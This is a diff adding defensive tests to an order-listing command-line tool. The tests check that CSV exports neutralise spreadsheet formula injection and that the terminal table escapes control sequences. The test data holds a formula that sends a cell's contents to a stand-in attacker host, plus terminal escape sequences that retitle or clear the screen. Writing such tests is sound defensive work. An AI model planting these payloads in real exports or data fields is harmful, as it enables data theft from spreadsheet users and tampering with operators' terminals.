@@ -138,6 +138,40 @@ def test_csv_and_table_shapes_without_personal_data(app, orders):
         assert EMAIL not in out and KE_PHONE not in out
 
 
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Refund")', "+1+1", "-2+3", "@SUM(A1)",
+            "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_compute_are_written_as_text(app):
+    """OWASP's CSV injection advice: a cell that starts with =, +, -, @, a tab or a carriage
+    return (or a full-width sign) gets a leading quote; the others are as the upstream says."""
+    made = {_onramp(app, formula): formula for formula in FORMULAS}
+    made[_onramp(app, "shop-ref=7+1")] = "shop-ref=7+1"
+    result = _run(app, "list", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(result.output))}
+    for order_id, sent in made.items():
+        written = rows[order_id]["orderParams"]
+        assert written == (sent if sent.startswith("shop") else "'" + sent), sent
+    for row in rows.values():
+        assert not row["id"].startswith("'") and not row["createdAt"].startswith("'")
+
+
+def test_the_table_shows_terminal_control_characters_escaped(app):
+    """An ESC, a BEL or an OSC from the upstream would act on the operator's terminal (retitle
+    it, clear it, make a link): the table shows them as escapes instead."""
+    hostile = {_onramp(app, "\x1b]0;owned\x07"): "\\x1b]0;owned\\x07",
+               _onramp(app, "\x1b[2Jref"): "\\x1b[2Jref",
+               _onramp(app, "a\x9bb\u202ec\rd"): "a\\x9bb\\u202ec\\rd"}
+    table = _run(app, "list")
+    assert table.exit_code == 0, table.output
+    assert not any(ch in table.output for ch in "\x1b\x07\x9b\u202e\r")
+    lines = table.output.splitlines()
+    assert len(lines) == 1 + len(hostile)
+    for order_id, shown in hostile.items():
+        assert shown in next(line for line in lines if line.startswith(order_id))
+
+
 def test_stored_status_shown_when_it_differs(app, orders):
     order_id = orders["offramp"][0]
     receiver = Receiver(app)
